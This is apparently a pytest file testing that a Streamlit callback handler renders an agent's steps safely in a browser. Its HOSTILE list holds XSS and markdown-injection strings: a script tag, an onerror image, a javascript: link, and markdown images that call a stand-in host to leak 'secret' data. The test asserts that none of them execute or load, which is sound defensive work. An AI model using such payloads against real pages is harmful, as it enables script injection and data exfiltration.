"""Runs on the page of a Streamlit app, as a browser shows it."""

import os
import socket
import subprocess
import sys
import time
from contextlib import contextmanager
from pathlib import Path

import pytest

pytest.importorskip("streamlit", reason="Streamlit is not installed: make platforms")

from tests.platforms.browser import browser

pytestmark = pytest.mark.timeout(180)

HERE = Path(__file__).parent


@contextmanager
def served(script):
    """Run an app; give its address."""
    with socket.socket() as free:
        free.bind(("127.0.0.1", 0))
        port = free.getsockname()[1]
    command = [sys.executable, "-m", "streamlit", "run", script, "--server.headless=true"]
    command += ["--server.address=127.0.0.1", f"--server.port={port}"]
    command += ["--browser.gatherUsageStats=false", "--client.toolbarMode=minimal"]
    paths = os.pathsep.join([str(HERE.parents[1]), *filter(None, [os.environ.get("PYTHONPATH")])])
    started = subprocess.Popen(
        command,
        env={**os.environ, "PYTHONPATH": paths},
        stdout=subprocess.DEVNULL,
        stderr=subprocess.DEVNULL,
    )
    try:
        for _ in range(300):
            assert started.poll() is None, "The app has ended."
            try:
                socket.create_connection(("127.0.0.1", port)).close()
                break
            except OSError:
                time.sleep(0.1)
        yield f"http://127.0.0.1:{port}/"
    finally:
        started.terminate()
        started.wait()


def open_boxes(page, *names):
    """Open the boxes whose labels have these names in them."""
    for name in names:
        page.run(
            f"""[...document.querySelectorAll("summary")].filter(
                each => each.innerText.includes({name!r}) && !each.parentElement.open
            ).forEach(each => each.click())"""
        )


def test_an_agent_is_seen_while_it_works_and_when_it_is_done(tmp_path, pictures):
    with served(HERE / "streamlit_app.py") as address, browser(tmp_path / "browser") as page:
        page.resize(760, 1380)
        seen = tmp_path / "seen"
        page.open(f"{address}?until={seen}")
        working = page.wait_for("Assam\t95")
        assert "Thinking..." in working
        assert "Complete!" not in working
        picture = page.picture()
        (pictures / "streamlit.png").write_bytes(picture)
        assert picture.startswith(b"\x89PNG")
        assert len(picture) < 100_000

        seen.touch()
        page.wait_for("Do not let it boil.")
        page.wait_for("Complete! support agent")
        open_boxes(page, "History")
        done = page.wait_for("DHL did not answer")
    assert "Thinking..." not in done
    assert "TimeoutError: DHL did not answer within 2 s." in done
    before, after = done.split("brewing advice")
    assert before.index("find_order: Ada") < before.index('"carrier":"post"')
    assert "tea handbook" in after
    assert "95 °C" in after


HOSTILE = [
    "<script>window.taken = 1</script>",
    "<img src=x onerror='window.taken = 2'>",
    "[a link](javascript:window.taken=3)",
    "![an image](http://elsewhere.test/?read=secret)",
    "![one more][elsewhere]\n\n[elsewhere]: http://elsewhere.test/?read=more",
    "```\n# A heading of theirs\n![an image](http://elsewhere.test/?read=fenced)",
    "</details></div></div> $$\\frac{1}{2}$$ :red[red] :material/home:",
]


def hostile_app():
    import streamlit as st

    from callboard.callbacks import CallbackManager
    from callboard.integrations import LLMThoughtLabeler, StreamlitCallbackHandler
    from callboard.payloads import AIMessage, ChatGeneration, Document, LLMResult
    from tests.platforms.test_streamlit_page import HOSTILE

    class Raw(LLMThoughtLabeler):
        def get_tool_label(self, tool, is_complete):
            return f"raw {tool.input_str}"

    for labels in (LLMThoughtLabeler(), Raw()):
        handler = StreamlitCallbackHandler(
            st.container(),
            max_thought_containers=100,
            collapse_completed_thoughts=False,
            thought_labeler=labels,
        )
        manager = CallbackManager.configure([handler])
        for text in HOSTILE:
            root = manager.on_chain_start(None, {"given": text, "and": [text]}, name=text)
            inner = root.get_child()
            inner.on_tool_start(None, text, name=text).on_tool_end(text)
            inner.on_tool_start(None, text, name="fails").on_tool_error(ValueError(text))
            inner.on_retriever_start(None, text, name=text).on_retriever_end(
                [Document(text, {"source": text})]
            )
            [model] = inner.on_chat_model_start(None, [[("user", text)]], name=text)
            for token in text:
                model.on_llm_new_token(token)
            handler.on_custom_event(text, {text: text}, run_id=model.run_id)
            call = {"name": text, "args": {"query": text}, "id": "1"}
            answer = AIMessage(text, tool_calls=[call])
            model.on_llm_end(LLMResult([[ChatGeneration(answer)]]))
            root.on_chain_end({"returned": text, "and": [text]})
    st.write("All has been said.")


def test_nothing_that_is_said_is_taken_for_markup(tmp_path):
    """An image of a model's sends what it has read to whoever serves the image."""
    script = tmp_path / "app.py"
    script.write_text(f"from {__name__} import hostile_app\n\nhostile_app()\n")
    with served(script) as address, browser(tmp_path / "browser") as page:
        page.resize(900, 2000)
        page.open(address)
        page.wait_for("All has been said.")
        shown = page.wait_for("raw ")
        links = page.run("[...document.links].map(each => each.href)")
        images = page.run("[...document.images].map(each => each.src)")
        headings = page.run(
            "[...document.querySelectorAll('.stMain h1')].map(each => each.innerText)"
        )
        taken = page.run("String(window.taken)")
        asked_for = page.asked_for
    assert taken == "undefined"
    assert not [link for link in links if link.startswith("javascript:")]
    assert not [image for image in images if "elsewhere" in image]
    assert not [address for address in asked_for if "elsewhere" in address]
    assert headings == []
    assert shown.count("<script>window.taken = 1</script>") >= 8
